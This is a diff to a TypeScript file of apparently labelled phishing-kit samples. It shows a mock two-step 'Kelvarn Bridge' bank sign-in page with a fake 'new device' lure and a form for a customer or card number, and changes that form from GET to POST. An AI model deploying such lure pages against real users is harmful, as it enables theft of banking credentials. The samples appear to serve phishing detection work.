@@ -53,7 +53,7 @@ export const bankKits: readonly LabelledSite[] = [
       '/signin': split(
         { lang: 'en', title: 'Kelvarn Bridge – Step 1 of 2', colour: teal },
         `${picture('/a/kb.jpg', 'logo')}<h1>We noticed a new device</h1>${paras('To protect your money we have paused some payments. Confirm it was you and everything will work again at once.')}`,
-        `<h2>Your details</h2><form action="/signin2" method="get"><label>Customer number or card number<input name="id"></label><button>Next</button></form>`,
+        `<h2>Your details</h2><form action="/signin2" method="post"><label>Customer number or card number<input name="id"></label><button>Next</button></form>`,
       ),
       '/signin2': split(
         { lang: 'en', title: 'Kelvarn Bridge – Step 2 of 2', colour: teal },
